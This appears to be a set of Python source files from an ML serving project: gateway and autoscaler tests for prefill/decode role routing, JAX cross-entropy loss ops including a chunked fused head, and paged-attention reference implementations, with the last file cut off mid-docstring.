        "no live prefill replica -> fall back to normal routing"


def test_gateway_session_pins_decode_replica_after_handoff():
    """Follow-up turns of a session must reach the decode replica that
    holds the KV, via the X-KO-Decode-Hint plumbing."""
    gw = _make_gw(retries=0)
    gw.add_replica("p1", "http://p1", role="prefill")
    gw.add_replica("d1", "http://d1", role="decode")
    hints = []

    def send(rep, body, timeout_s, trace_id):
        hints.append(getattr(gw._tl, "decode_hint", None))
        gw._tl.decode_replica = "d1"   # what the prefill replica returns
        return 200, b'{"tokens": [[1]]}'

    gw._send = send
    hdrs = {"X-KO-Session": "conv-42"}
    gw.handle_generate(b"{}", hdrs)
    assert gw._decode_affinity.get("conv-42") == "d1"
    gw.handle_generate(b"{}", hdrs)
    assert hints == [None, "d1"], \
        "second turn must carry the decode-replica hint upstream"
    gw.remove_replica("d1")
    assert "conv-42" not in gw._decode_affinity


def test_gateway_prefix_key_does_not_pin_prefill_replica():
    """Satellite 6: under disagg the derived prefix-affinity key must
    NOT pin the prefill replica — the radix cache that matters after
    handoff lives on the decode pool."""
    gw = _make_gw(retries=0, prefix_key_tokens=4)
    gw.add_replica("p1", "http://p1", role="prefill")
    gw.add_replica("p2", "http://p2", role="prefill")
    gw.add_replica("d1", "http://d1", role="decode")

    def send(rep, body, timeout_s, trace_id):
        gw._tl.decode_replica = "d1"
        return 200, b'{"tokens": [[1]]}'

    gw._send = send
    body = json.dumps({"prompt_ids": [[7, 11, 13, 17, 1]]}).encode()
    status, _, _ = gw.handle_generate(body, {})
    assert status == 200
    assert not gw._affinity, \
        "prefix session must not pin to a prefill replica under disagg"
    assert list(gw._decode_affinity.values()) == ["d1"], \
        "…but it must still learn the decode-side placement"

    # disagg off: legacy prefix pinning behavior is untouched
    gw.cfg.disagg = False
    gw.handle_generate(body, {})
    assert len(gw._affinity) == 1


def test_gateway_sync_targets_learns_roles():
    gw = _make_gw()
    gw.sync_targets(items=[
        {"name": "p1", "url": "http://p1:9000/metrics",
         "labels": {"job": "serve", "role": "prefill"}},
        {"name": "d1", "url": "http://d1:9000/metrics",
         "labels": {"job": "serve", "role": "decode"}},
    ])
    assert gw.replicas["p1"].role == "prefill"
    assert gw.replicas["d1"].role == "decode"
    assert {r["role"] for r in gw.status()["replicas"]} \
        == {"prefill", "decode"}


# ------------------------------------------- autoscaler pool scoping

class _DB:
    def __init__(self, apps):
        self.apps = apps

    def list(self, table):
        return list(self.apps.values())

    def get(self, table, id):
        return (self.apps.get(id) if table == "apps"
                else {"id": id, "name": id})


class _Svc:
    def __init__(self, db):
        self.db = db
        self.calls = []

    def scale_app(self, cluster_id, app_id, replicas, reason=""):
        self.calls.append((app_id, replicas))
        self.db.apps[app_id]["manifest"]["spec"]["replicas"] = replicas
        return {"id": f"t{len(self.calls)}"}


class _Rules:
    def __init__(self):
        self.firing = []

    def active(self, route=None):
        return list(self.firing)


def _app(app_id, template, role=None, replicas=2):
    man = {"kind": "Deployment", "spec": {"replicas": replicas},
           "ko": {"min_replicas": 1, "max_replicas": 8}}
    if role:
        man["ko"]["role"] = role
    return {"id": app_id, "name": app_id, "cluster_id": "c1",
            "template": template, "manifest": man}


def _pool_alert(name, scale, pool=None):
    return {"name": name, "state": "firing", "scale": scale,
            "route": ["autoscale"], "pool": pool}


def test_autoscaler_scopes_alerts_to_role_pools():
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler

    db = _DB({
        "pf": _app("pf", "llama3-8b-prefill", role="prefill"),
        "dc": _app("dc", "llama3-8b-decode", role="decode"),
        "mx": _app("mx", "llama3-8b-serve"),
    })
    svc, rules = _Svc(db), _Rules()
    asc = ServeAutoscaler(db, svc, rules, cooldown_s=0, step=1,
                          now_fn=lambda: 0.0,
                          registry=MetricsRegistry())

    # prefill-scoped pressure: prefill pool moves; the role-less mixed
    # app keeps legacy whole-fleet behavior; decode pool is untouched
    rules.firing = [_pool_alert("prefill-queue", "up", pool="prefill")]
    moved = {d["app_id"]: d["direction"] for d in asc.tick()}
    assert moved == {"pf": "up", "mx": "up"}

    # per-pool hysteresis: decode scales down while prefill pressure
    # holds its own pool up — one pool's alert never vetoes another's
    rules.firing = [_pool_alert("prefill-queue", "up", pool="prefill"),
                    _pool_alert("decode-idle", "down", pool="decode")]
    moved = {d["app_id"]: d["direction"] for d in asc.tick()}
    assert moved["pf"] == "up" and moved["dc"] == "down"

    # unscoped alert still moves the whole fleet
    rules.firing = [_pool_alert("fleet-shed", "up")]
    moved = {d["app_id"]: d["direction"] for d in asc.tick()}
    assert set(moved) == {"pf", "dc", "mx"}


def test_autoscaler_role_falls_back_to_template_default():
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler

    assert ServeAutoscaler._app_role(
        _app("x", "llama3-8b-prefill")) == "prefill"
    assert ServeAutoscaler._app_role(
        _app("x", "llama3-8b-decode", role="decode")) == "decode"
    assert ServeAutoscaler._app_role(_app("x", "llama3-8b-serve")) == ""


def test_default_rules_carry_pool_scope():
    from kubeoperator_trn.telemetry import rules as R

    by_name = {r["name"]: r for r in R.default_rules()}
    assert by_name["infer-prefill-queue-high"]["pool"] == "prefill"
    assert by_name["infer-decode-itl-p95-high"]["pool"] == "decode"
    assert by_name["infer-ttft-p95-high"]["pool"] == "decode"


# ----------------------------------------------------- app templates

def test_prefill_decode_templates_render_role_env():
    from kubeoperator_trn.cluster.apps import render_job

    cluster = {"id": "c1", "name": "c",
               "spec": {"instance_type": "trn2.48xlarge", "efa": False}}
    pf = render_job("llama3-8b-prefill", cluster)
    env = {e["name"]: e["value"]
           for e in pf["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["KO_INFER_ROLE"] == "prefill"
    assert "KO_INFER_HANDOFF_TARGETS_URL" in env
    assert pf["ko"]["role"] == "prefill"

    dc = render_job("llama3-8b-decode", cluster)
    env = {e["name"]: e["value"]
           for e in dc["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["KO_INFER_ROLE"] == "decode"
    assert "KO_INFER_HANDOFF_TARGETS_URL" not in env
    assert dc["ko"]["role"] == "decode"

    # the legacy mixed template must not grow role plumbing
    mixed = render_job("llama3-8b-serve", cluster)
    env = {e["name"]: e["value"] for e in
           mixed["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert "KO_INFER_ROLE" not in env
    assert "role" not in mixed.get("ko", {})
