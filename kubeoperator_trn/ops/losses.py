"""Loss ops."""

import jax
import jax.numpy as jnp


def cross_entropy_loss(
    logits: jax.Array,
    targets: jax.Array,
    mask: jax.Array | None = None,
):
    """Mean token-level cross entropy.

    logits [B, S, V] (any float dtype; promoted to f32), targets [B, S]
    int, mask [B, S] optional (1 = count).  Returns (loss, n_tokens).
    """
    logits = logits.astype(jnp.float32)
    logz = jax.nn.logsumexp(logits, axis=-1)
    gold = jnp.take_along_axis(logits, targets[..., None], axis=-1)[..., 0]
    nll = logz - gold  # [B, S]
    if mask is None:
        mask = jnp.ones_like(nll)
    mask = mask.astype(jnp.float32)
    n = jnp.maximum(jnp.sum(mask), 1.0)
    return jnp.sum(nll * mask) / n, n
