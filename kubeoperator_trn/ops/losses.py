"""Loss ops.

Two CE implementations share this module:

  - ``cross_entropy_loss``: the dense reference — takes materialized
    logits ``[B, S, V]``.  Kept as the numerical ground truth for tests
    and as the ``ce_chunk=0`` escape hatch.
  - the **chunked fused head** (``chunked_cross_entropy`` /
    ``chunked_nll`` / ``chunked_nll_sharded``): takes the pre-head
    hidden states ``[T, D]`` plus the head weights ``[D, V]`` and scans
    over token chunks — ``x_chunk @ W → logsumexp → nll`` per chunk,
    with a custom VJP that *recomputes* the chunk logits in backward
    instead of saving them.  Peak logits memory drops from ``[T, V]``
    to ``[chunk, V]`` and the f32 logits tensor never round-trips HBM
    (at the bench config bsz256·seq128·vocab32k that is 4.3 GB of f32
    saved-for-backward it no longer produces — see ARCHITECTURE.md
    "Loss-head HBM accounting").  Cost: one extra head matmul in
    backward (the recompute), ~2·D·V FLOPs/token.

Compile-safety (ARCHITECTURE.md rule 7a): the gold-logit pick is a
compare/one-hot masked sum, never ``take_along_axis`` — the gather's
IndirectLoad lowering overflows the 16-bit offset field on trn at
vocab ≥ 32k.  The chunk loop is a ``lax.scan`` with static shapes.
"""

import functools
import os

import jax
import jax.numpy as jnp
import numpy as np

# Default token-chunk size for the fused CE head.  Trade-off: live
# logits memory is chunk·V·4 bytes while the head weights are re-read
# once per chunk per matmul — larger chunks amortize W traffic, smaller
# chunks cut peak memory.  1024 at the bench config (V=32768) keeps the
# live chunk at 128 MB (vs 4.3 GB dense) with only 32 scan steps.
DEFAULT_CE_CHUNK = 1024


def resolve_ce_chunk(chunk: int | None = None) -> int:
    """Resolve the CE chunk size: explicit config > KO_CE_CHUNK env >
    DEFAULT_CE_CHUNK.  0 (or negative) disables chunking — callers fall
    back to their dense logits path."""
    if chunk is None:
        chunk = int(os.environ.get("KO_CE_CHUNK", DEFAULT_CE_CHUNK))
    return max(0, int(chunk))


def cross_entropy_loss(
    logits: jax.Array,
    targets: jax.Array,
    mask: jax.Array | None = None,
):
    """Mean token-level cross entropy (dense reference).

    logits [B, S, V] (any float dtype; promoted to f32), targets [B, S]
    int, mask [B, S] optional (1 = count).  Returns (loss, n_tokens).
    """
    logits = logits.astype(jnp.float32)
    logz = jax.nn.logsumexp(logits, axis=-1)
    gold = jnp.take_along_axis(logits, targets[..., None], axis=-1)[..., 0]
    nll = logz - gold  # [B, S]
    if mask is None:
        mask = jnp.ones_like(nll)
    mask = mask.astype(jnp.float32)
    n = jnp.maximum(jnp.sum(mask), 1.0)
    return jnp.sum(nll * mask) / n, n


def _gold_logit(logits: jax.Array, targets: jax.Array, vocab_start=0):
    """Gold-logit pick as a compare/one-hot masked sum (rule 7a — no
    gather).  logits [..., V] f32, targets [...] int.  With a sharded
    vocab, out-of-shard targets match no column and contribute 0 (the
    caller psums across shards)."""
    iota_v = jax.lax.iota(jnp.int32, logits.shape[-1])
    sel = (targets - vocab_start)[..., None] == iota_v
    return jnp.sum(jnp.where(sel, logits, 0.0), axis=-1)


def _chunk_logits(xc: jax.Array, w: jax.Array) -> jax.Array:
    """[C, D] @ [D, V] with operands in the activation dtype and f32
    accumulation — same matmul contract as the dense head."""
    return jnp.matmul(xc, w.astype(xc.dtype), preferred_element_type=jnp.float32)


def _chunk_split(arr: jax.Array, chunk: int):
    """Zero-pad the leading (token) axis to a chunk multiple and fold it
    to [n_chunks, chunk, ...].  Static shapes: n_chunks is a Python int."""
    t = arr.shape[0]
    n_chunks = -(-t // chunk)
    pad = n_chunks * chunk - t
    arr = jnp.pad(arr, ((0, pad),) + ((0, 0),) * (arr.ndim - 1))
    return arr.reshape(n_chunks, chunk, *arr.shape[1:])


def _make_chunked_nll(chunk: int):
    """custom_vjp core: nll [T] from x [T, D], w [D, V], targets [T].

    Forward scans token chunks and keeps only the [T] nll vector;
    backward recomputes each chunk's logits and emits
    dx = (softmax − onehot)·g @ Wᵀ and dW = Σ xᵀ @ (softmax − onehot)·g
    without ever holding more than one [chunk, V] block."""

    def fwd_impl(x, w, targets):
        t = x.shape[0]
        xs = _chunk_split(x, chunk)
        ts = _chunk_split(targets, chunk)

        def body(_, ct):
            xc, tc = ct
            logits = _chunk_logits(xc, w)
            nll = jax.nn.logsumexp(logits, axis=-1) - _gold_logit(logits, tc)
            return None, nll

        _, nll = jax.lax.scan(body, None, (xs, ts))
        return nll.reshape(-1)[:t]

    @jax.custom_vjp
    def chunked_nll(x, w, targets):
        return fwd_impl(x, w, targets)

    def fwd(x, w, targets):
        # Residuals are the *inputs* only — the [T, V] logits are never
        # saved; that is the whole point of this op.
        return fwd_impl(x, w, targets), (x, w, targets)

    def bwd(res, g):
        x, w, targets = res
        t, d = x.shape
        xs = _chunk_split(x, chunk)
        ts = _chunk_split(targets, chunk)
        gs = _chunk_split(g.astype(jnp.float32), chunk)
        wt = w.astype(x.dtype)

        def body(dw, ctg):
            xc, tc, gc = ctg
            logits = _chunk_logits(xc, w)  # recompute, not restore
            logz = jax.nn.logsumexp(logits, axis=-1)
            p = jnp.exp(logits - logz[:, None])
            iota_v = jax.lax.iota(jnp.int32, logits.shape[-1])
            onehot = (tc[:, None] == iota_v).astype(jnp.float32)
            dl = ((p - onehot) * gc[:, None]).astype(x.dtype)
            dxc = jnp.matmul(dl, wt.T, preferred_element_type=jnp.float32)
            dw = dw + jnp.matmul(xc.T, dl, preferred_element_type=jnp.float32)
            return dw, dxc.astype(x.dtype)

        dw, dxs = jax.lax.scan(body, jnp.zeros(w.shape, jnp.float32), (xs, ts, gs))
        dx = dxs.reshape(-1, d)[:t]
        return dx, dw.astype(w.dtype), np.zeros(targets.shape, jax.dtypes.float0)

    chunked_nll.defvjp(fwd, bwd)
    return chunked_nll


def chunked_nll(x: jax.Array, w: jax.Array, targets: jax.Array, *,
                chunk: int | None = None) -> jax.Array:
    """Per-token nll [T] from hidden states x [T, D] and head weights
    w [D, V] without materializing [T, V] logits.  Always runs the
    fused core: chunk <= 0 degrades to a single chunk of size T (the
    logits still aren't saved for backward).  Callers wanting the true
    dense reference path build logits themselves (see
    chunked_cross_entropy's chunk<=0 branch)."""
    chunk = resolve_ce_chunk(chunk)
    t = targets.shape[0]
    if chunk <= 0:
        chunk = t
    return _make_chunked_nll(min(chunk, t))(x, w, targets)


def chunked_cross_entropy(
    x: jax.Array,
    w: jax.Array,
    targets: jax.Array,
    mask: jax.Array | None = None,
    *,
    chunk: int | None = None,
):
    """Fused CE head: mean token cross entropy straight from the
    pre-head hidden states.

    x [..., D] (compute dtype), w [D, V], targets [...] int, mask [...]
    optional.  Returns (loss, n_tokens), matching cross_entropy_loss on
    the same inputs to f32 round-off.  With the resolved chunk <= 0 the
    dense reference path runs instead (materialized logits) — the A/B
    escape hatch for KO_CE_CHUNK=0.
    """
    chunk = resolve_ce_chunk(chunk)
    if chunk <= 0:
        logits = jnp.matmul(x, w.astype(x.dtype),
                            preferred_element_type=jnp.float32)
        return cross_entropy_loss(logits, targets, mask)
    d = x.shape[-1]
    nll = chunked_nll(x.reshape(-1, d), w, targets.reshape(-1),
                      chunk=chunk).reshape(targets.shape)
    if mask is None:
        mask = jnp.ones_like(nll)
    mask = mask.astype(jnp.float32)
    n = jnp.maximum(jnp.sum(mask), 1.0)
    return jnp.sum(nll * mask) / n, n


def _ring_max(m: jax.Array, axis: str) -> jax.Array:
    """Cross-shard elementwise max via a ppermute ring — pmax has no AD
    rules and all_gather aborts GSPMD inside partial-manual shard_map
    (ARCHITECTURE.md rule 6); ppermute is the one collective proven in
    every context here."""
    # psum(1, axis) is the static axis-size idiom that exists on every
    # jax in play (lax.axis_size is missing from the CPU image's 0.4.37).
    n = jax.lax.psum(1, axis)
    perm = [(i, (i + 1) % n) for i in range(n)]
    mv = m
    for _ in range(n - 1):
        mv = jax.lax.ppermute(mv, axis, perm)
        m = jnp.maximum(m, mv)
    return m


def _make_chunked_nll_sharded(chunk: int, axis: str):
    """Vocab-sharded (tp) variant of the chunked-CE core: w_local is
    [D, V/tp], logsumexp composes from a ppermute-ring max + psum'd
    sumexp, and the gold pick psums the local one-hot selects.  The
    manual backward completes dx with a psum over the vocab shards
    (x is replicated over tp; dW_local stays local)."""

    def _stats(xc, w_local, tc, vocab_start):
        logits = _chunk_logits(xc, w_local)  # [C, V/tp] f32
        m = _ring_max(jnp.max(logits, axis=-1), axis)
        sumexp = jax.lax.psum(
            jnp.sum(jnp.exp(logits - m[:, None]), axis=-1), axis)
        logz = m + jnp.log(sumexp)
        gold = jax.lax.psum(_gold_logit(logits, tc, vocab_start), axis)
        return logits, logz, gold

    def fwd_impl(x, w_local, targets, vocab_start):
        t = x.shape[0]
        xs = _chunk_split(x, chunk)
        ts = _chunk_split(targets, chunk)

        def body(_, ct):
            xc, tc = ct
            _, logz, gold = _stats(xc, w_local, tc, vocab_start)
            return None, logz - gold

        _, nll = jax.lax.scan(body, None, (xs, ts))
        return nll.reshape(-1)[:t]

    @jax.custom_vjp
    def chunked_nll_sharded(x, w_local, targets, vocab_start):
        return fwd_impl(x, w_local, targets, vocab_start)

    def fwd(x, w_local, targets, vocab_start):
        return (fwd_impl(x, w_local, targets, vocab_start),
                (x, w_local, targets, vocab_start))

    def bwd(res, g):
        x, w_local, targets, vocab_start = res
        t, d = x.shape
        xs = _chunk_split(x, chunk)
        ts = _chunk_split(targets, chunk)
        gs = _chunk_split(g.astype(jnp.float32), chunk)
        wt = w_local.astype(x.dtype)

        def body(dw, ctg):
            xc, tc, gc = ctg
            logits, logz, _ = _stats(xc, w_local, tc, vocab_start)
            p = jnp.exp(logits - logz[:, None])  # local softmax slice
            iota_v = jax.lax.iota(jnp.int32, logits.shape[-1])
            onehot = ((tc - vocab_start)[:, None] == iota_v).astype(jnp.float32)
            dl = ((p - onehot) * gc[:, None]).astype(x.dtype)
            # x is replicated over tp, vocab is split: the full dx is
            # the sum of each shard's partial product.
            dxc = jax.lax.psum(
                jnp.matmul(dl, wt.T, preferred_element_type=jnp.float32), axis)
            dw = dw + jnp.matmul(xc.T, dl, preferred_element_type=jnp.float32)
            return dw, dxc.astype(x.dtype)

        dw, dxs = jax.lax.scan(
            body, jnp.zeros(w_local.shape, jnp.float32), (xs, ts, gs))
        dx = dxs.reshape(-1, d)[:t]
        return (dx, dw.astype(w_local.dtype),
                np.zeros(targets.shape, jax.dtypes.float0),
                np.zeros(np.shape(vocab_start), jax.dtypes.float0))

    chunked_nll_sharded.defvjp(fwd, bwd)
    return chunked_nll_sharded


def chunked_nll_sharded(x: jax.Array, w_local: jax.Array, targets: jax.Array,
                        vocab_start, *, axis: str = "tp",
                        chunk: int | None = None) -> jax.Array:
    """Per-token nll [T] over a vocab-sharded head (see
    _make_chunked_nll_sharded).  Must run inside a manual region (or
    vmap) carrying `axis`.  Returns the same replicated [T] vector on
    every shard."""
    chunk = resolve_ce_chunk(chunk)
    t = targets.shape[0]
    if chunk <= 0:
        chunk = t
    return _make_chunked_nll_sharded(min(chunk, t), axis)(
        x, w_local, targets, vocab_start)
