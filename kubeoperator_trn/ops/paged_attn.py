"""Paged-attention implementation resolution + page-tiled reference.

The serving planes (`paged_decode_step` / `paged_verify_step`) attend
against the shared block pool through per-slot block tables.  Two
implementations exist:

  - ``jax`` — `infer.engine._attend_cached`'s gathered-copy einsum:
    materializes ``ck[tables].reshape(B, MB*BS, KV, hd)`` per layer
    and runs dense masked attention over the padded view.  The parity
    reference and CPU fallback.
  - ``bass`` — `kernels.paged_attn_bass`: walks the block table
    on-chip and indirect-DMAs only ``ceil(valid_len/BS)`` pages per
    slot, online softmax across page tiles, no gathered copy.

`resolve_paged_attn_impl` mirrors `resolve_spec_impl`'s precedence
(explicit > KO_PAGED_ATTN_IMPL env > autotune-cache hint > "auto",
where auto picks bass iff concourse imports) — the serving engine
resolves once at init and logs the choice, never per dispatch.

`paged_attend_blockwise` is the page-tiled structural analog of the
bass kernel in pure jax: same online-softmax-across-page-tiles math,
gathers ``page_tile`` blocks at a time instead of the whole table.
It is the CPU stand-in the autotune sweep times and the reference the
parity tests pit against the gathered-copy einsum.
`paged_prefill_blockwise` is the same twin for the chunked-prefill
kernel (`kernels.prefill_attn_bass`, ISSUE 18): functional chunk K/V
scatter + in-chunk causal attention from the fresh tensors (never read
back from the pool) + history-page walk bounded at ``start_pos``.

Resolution is per *dispatch class*: one resolved impl string still
governs the scheduler, but the geometry gate is evaluated per dispatch
shape — decode/verify through `paged_attn_bass.supported_geometry`,
prefill chunks through `prefill_attn_bass.prefill_supported_geometry`
— so a model whose chunk exceeds the prefill envelope keeps its bass
decode path instead of blanket-falling back (ISSUE 18; the old
behavior dropped every ``G*Sq > 128`` trace to jax).

`step_attn_bytes` / `prefill_attn_bytes` are the analytic HBM byte
models behind ``ko_work_infer_attn_bytes_total{impl}`` and the healthz
report: the gathered-copy path touches every padded page
(2·L·B·MB·BS·KV·hd·dtype for K+V), the kernels only valid ones
(decode: Σ_b ceil(valid_b/BS)·BS tokens; prefill:
ceil(start/BS)·BS history tokens + the C fresh chunk rows).
"""

import os

import jax.numpy as jnp

from kubeoperator_trn.ops.attention import NEG_INF

PAGED_ATTN_IMPLS = ("auto", "jax", "bass")


def resolve_paged_attn_impl(explicit: str | None = None) -> str:
    """Resolve the serving attention implementation to "jax" or
    "bass": explicit > KO_PAGED_ATTN_IMPL > autotune-cache hint >
    "auto" (bass iff the concourse toolchain is importable)."""
    impl = explicit
    if impl is None:
        impl = os.environ.get("KO_PAGED_ATTN_IMPL") or None
    if impl is None:
        try:  # a tuned record may pin the impl for this plan
            from kubeoperator_trn.kernels import autotune
            for rec in autotune.load_cache().values():
                if rec.get("kernel") == "paged_attn_bass":
                    hint = rec.get("config", {}).get("impl")
                    if hint:
                        impl = str(hint)
                        break
        except Exception:  # noqa: BLE001 — cache is advisory
            impl = None
    impl = impl if impl is not None else "auto"
    if impl not in PAGED_ATTN_IMPLS:
        raise ValueError(
            f"paged-attn impl {impl!r} not in {PAGED_ATTN_IMPLS}")
    if impl == "auto":
        from kubeoperator_trn.kernels import bass_available
        impl = "bass" if bass_available() else "jax"
    return impl


def paged_attend_blockwise(q, ck, cv, q_pos, n_kv_heads, valid_len,
                           block_tables, page_tile: int = 1):
    """Page-tiled paged attention: q [B,Sq,H,hd] against the pool
    ck/cv [NB,BS,KV,hd] via block_tables [B,MB], gathering only
    ``page_tile`` blocks per step with an online softmax carrying
    (m, l, acc) across tiles — the jax analog of the bass kernel's
    dataflow (the full [B, MB*BS, KV, hd] copy never exists).

    Numerically equivalent to `_attend_cached`'s masked dense softmax:
    masked lanes sit at NEG_INF before the running max, so they
    contribute exact zeros; tile order only reassociates the f32 sums.
    """
    b, sq, h, d = q.shape
    bs, kvh, hd = ck.shape[1:]
    mb = block_tables.shape[1]
    g = h // n_kv_heads
    qp = q_pos if q_pos.ndim == 2 else jnp.broadcast_to(
        q_pos[None], (b, sq))
    bound = jnp.minimum(qp, valid_len[:, None] - 1)       # [B, Sq]
    qg = q.reshape(b, sq, n_kv_heads, g, d)
    scale = 1.0 / (d ** 0.5)

    m = jnp.full((b, n_kv_heads, g, sq), -jnp.inf, jnp.float32)
    l = jnp.zeros((b, n_kv_heads, g, sq), jnp.float32)
    acc = jnp.zeros((b, n_kv_heads, g, sq, d), jnp.float32)
    for p0 in range(0, mb, page_tile):
        pw = min(page_tile, mb - p0)
        tiles = block_tables[:, p0:p0 + pw]               # [B, pw]
        kt = ck[tiles].reshape(b, pw * bs, kvh, hd)
        vt = cv[tiles].reshape(b, pw * bs, kvh, hd)
        t_pos = p0 * bs + jnp.arange(pw * bs)             # global pos
        s = jnp.einsum("bqgrd,bkgd->bgrqk", qg, kt,
                       preferred_element_type=jnp.float32) * scale
        keep = t_pos[None, None, :] <= bound[:, :, None]  # [B,Sq,T]
        s = jnp.where(keep[:, None, None], s, NEG_INF)
        m_new = jnp.maximum(m, jnp.max(s, axis=-1))
        corr = jnp.exp(m - m_new)
        p = jnp.exp(s - m_new[..., None])
        l = l * corr + jnp.sum(p, axis=-1)
        pv = jnp.einsum("bgrqk,bkgd->bgrqd", p.astype(vt.dtype), vt)
        acc = acc * corr[..., None] + pv
        m = m_new
    out = acc / jnp.maximum(l, 1e-30)[..., None]          # [B,KV,G,Sq,hd]
    out = jnp.transpose(out, (0, 3, 1, 2, 4)).reshape(b, sq, h, d)
    return out.astype(cv.dtype)


def paged_prefill_blockwise(q, knew, vnew, ck, cv, q_pos, n_kv_heads,
                            valid_len, block_tables, write_mask,
                            page_tile: int = 1):
    """Chunked-prefill paged attention, the pure-jax twin of
    `kernels.prefill_attn_bass`: scatter the chunk's fresh K/V into
    the pool (functional ``.at[].set`` — same targets as the kernel's
    fused indirect-DMA scatter, pad lanes to scratch row 0), attend
    the chunk against *the fresh tensors directly* under the
    chunk-local causal bound ``key_s <= min(s, n_valid-1)``, then walk
    the history pages ``page_tile`` blocks at a time under the uniform
    bound ``key_pos <= start_pos-1`` with the same online softmax.
    The gathered [B, MB*BS, KV, hd] copy never exists and the chunk's
    K/V are never read back from the pool.

    q [B,C,H,hd], knew/vnew [B,C,KV,hd] post-rope, ck/cv
    [NB,BS,KV,hd], q_pos [B,C] consecutive (start..start+C-1),
    valid_len [B] == start + n_valid, write_mask [B,C].  Returns
    ``(attn [B,C,H,hd], ck, cv)`` — mirror of the bass wrapper, so
    `_forward_paged` can treat both impls as the single owner of the
    chunk's pool write (write-once invariant).

    The in-chunk block is folded *first*: key 0 is unmasked for every
    query row, so the running max is finite before any fully-masked
    history page (start_pos == 0, or pages past the history) folds in
    — its lanes then contribute exact zeros instead of exp(0).
    """
    b, c, h, d = q.shape
    bs, kvh, hd = ck.shape[1:]
    mb = block_tables.shape[1]
    g = h // n_kv_heads
    qp = q_pos if q_pos.ndim == 2 else jnp.broadcast_to(
        q_pos[None], (b, c))
    start = qp[:, 0]                                      # [B]
    nv = valid_len - start                                # [B]
    # functional scatter — identical targets to the kernel's fused
    # scatter and to `_forward_paged`'s legacy jax write
    li = jnp.clip(qp // bs, 0, mb - 1)
    phys = jnp.where(write_mask,
                     jnp.take_along_axis(block_tables, li, axis=1), 0)
    off = jnp.where(write_mask, qp % bs, 0)
    ck = ck.at[phys.reshape(-1), off.reshape(-1)].set(
        knew.reshape(b * c, kvh, hd).astype(ck.dtype))
    cv = cv.at[phys.reshape(-1), off.reshape(-1)].set(
        vnew.reshape(b * c, kvh, hd).astype(cv.dtype))

    qg = q.reshape(b, c, n_kv_heads, g, d)
    scale = 1.0 / (d ** 0.5)
    # ---- in-chunk phase: fresh K/V straight from the projections
    s_arr = jnp.arange(c)
    s = jnp.einsum("bqgrd,bkgd->bgrqk", qg, knew.astype(ck.dtype),
                   preferred_element_type=jnp.float32) * scale
    keep = s_arr[None, None, :] <= jnp.minimum(
        s_arr[None, :, None], (nv - 1)[:, None, None])    # [B,C,C]
    s = jnp.where(keep[:, None, None], s, NEG_INF)
    m = jnp.max(s, axis=-1)
    p = jnp.exp(s - m[..., None])
    l = jnp.sum(p, axis=-1)
    acc = jnp.einsum("bgrqk,bkgd->bgrqd", p.astype(cv.dtype),
                     vnew.astype(cv.dtype)).astype(jnp.float32)
    # ---- history phase: uniform bound start-1 (the boundary page's
    # freshly scattered rows belong to the chunk phase, never here)
    hb = (start - 1)[:, None]                             # [B,1]
    for p0 in range(0, mb, page_tile):
        pw = min(page_tile, mb - p0)
        tiles = block_tables[:, p0:p0 + pw]               # [B, pw]
        kt = ck[tiles].reshape(b, pw * bs, kvh, hd)
        vt = cv[tiles].reshape(b, pw * bs, kvh, hd)
        t_pos = p0 * bs + jnp.arange(pw * bs)             # global pos
        s = jnp.einsum("bqgrd,bkgd->bgrqk", qg, kt,
                       preferred_element_type=jnp.float32) * scale
        keep = t_pos[None, :] <= hb                       # [B, T]
        s = jnp.where(keep[:, None, None, None], s, NEG_INF)
        m_new = jnp.maximum(m, jnp.max(s, axis=-1))
        corr = jnp.exp(m - m_new)
        p = jnp.exp(s - m_new[..., None])
        l = l * corr + jnp.sum(p, axis=-1)
        pv = jnp.einsum("bgrqk,bkgd->bgrqd", p.astype(vt.dtype), vt)
        acc = acc * corr[..., None] + pv
        m = m_new
    out = acc / jnp.maximum(l, 1e-30)[..., None]          # [B,KV,G,C,hd]
    out = jnp.transpose(out, (0, 3, 1, 2, 4)).reshape(b, c, h, d)
    return out.astype(q.dtype), ck, cv


def step_attn_bytes(n_layers: int, valid_lens, max_blocks: int,
                    block_size: int, n_kv_heads: int, head_dim: int,
                    dtype_bytes: int, impl: str) -> int:
    """Analytic KV-pool HBM bytes one decode/verify step reads for
    attention.  ``jax`` pays the gathered copy over every padded page
    of every slot; ``bass`` reads only pages below ceil(valid/BS).
    K and V both move, hence the factor 2.  valid_lens: iterable of
    per-slot attention bounds (0 = empty slot)."""
    line = n_kv_heads * head_dim * dtype_bytes
    total_slots = 0
    valid_pages = 0
    for vl in valid_lens:
        total_slots += 1
        vl = int(vl)
        if vl > 0:
            valid_pages += -(-vl // block_size)
    if impl == "bass":
        tokens = valid_pages * block_size
    else:
        tokens = total_slots * max_blocks * block_size
    return 2 * n_layers * tokens * line


def prefill_attn_bytes(n_layers: int, start_pos: int, chunk: int,
                       max_blocks: int, block_size: int,
                       n_kv_heads: int, head_dim: int,
                       dtype_bytes: int, impl: str) -> int:
    """Analytic KV HBM bytes one prefill-chunk dispatch reads for
    attention (ISSUE 18).  ``jax`` gathers the sequence's whole padded
    table per layer (the chunk rides inside the gathered copy);
    ``bass`` reads only the ceil(start/BS) *history* pages plus the C
    fresh chunk rows (which stay SBUF-resident for the in-chunk
    phase).  K and V both move, hence the factor 2."""
    line = n_kv_heads * head_dim * dtype_bytes
    if impl == "bass":
        hist_pages = -(-max(0, int(start_pos)) // block_size)
        tokens = min(hist_pages, max_blocks) * block_size + int(chunk)
    else:
        tokens = max_blocks * block_size
    return 2 * n_layers * tokens * line
