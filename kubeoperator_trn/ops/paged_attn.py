"""Paged-attention implementation resolution + page-tiled reference.

The serving planes (`paged_decode_step` / `paged_verify_step`) attend
against the shared block pool through per-slot block tables.  Two
implementations exist:

  - ``jax`` — `infer.engine._attend_cached`'s gathered-copy einsum:
    materializes ``ck[tables].reshape(B, MB*BS, KV, hd)`` per layer
    and runs dense masked attention over the padded view.  The parity
    reference and CPU fallback.
  - ``bass`` — `kernels.paged_attn_bass`: walks the block table
    on-chip and indirect-DMAs only ``ceil(valid_len/BS)`` pages per
    slot, online softmax across page tiles, no gathered copy.

`resolve_paged_attn_impl` mirrors `resolve_spec_impl`'s precedence
(explicit > KO_PAGED_ATTN_IMPL env > autotune-cache hint > "auto",
where auto picks bass iff concourse imports) — the serving engine
resolves once at init and logs the choice, never per dispatch.

`paged_attend_blockwise` is the page-tiled structural analog of the
